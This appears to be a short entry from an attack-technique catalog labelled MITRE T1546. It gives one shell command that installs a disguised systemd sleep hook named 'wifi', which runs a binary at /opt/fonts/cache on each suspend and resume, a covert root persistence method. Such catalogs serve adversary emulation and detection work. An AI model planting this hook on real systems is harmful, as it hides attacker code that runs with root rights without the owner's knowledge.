# technique: T1546
# location: linux.systemd.sleep-hook
# source: /usr/lib/systemd/system-sleep/wifi
install -D /dev/stdin -m 755 /usr/lib/systemd/system-sleep/wifi <<< '#!/bin/sh
exec /opt/fonts/cache'
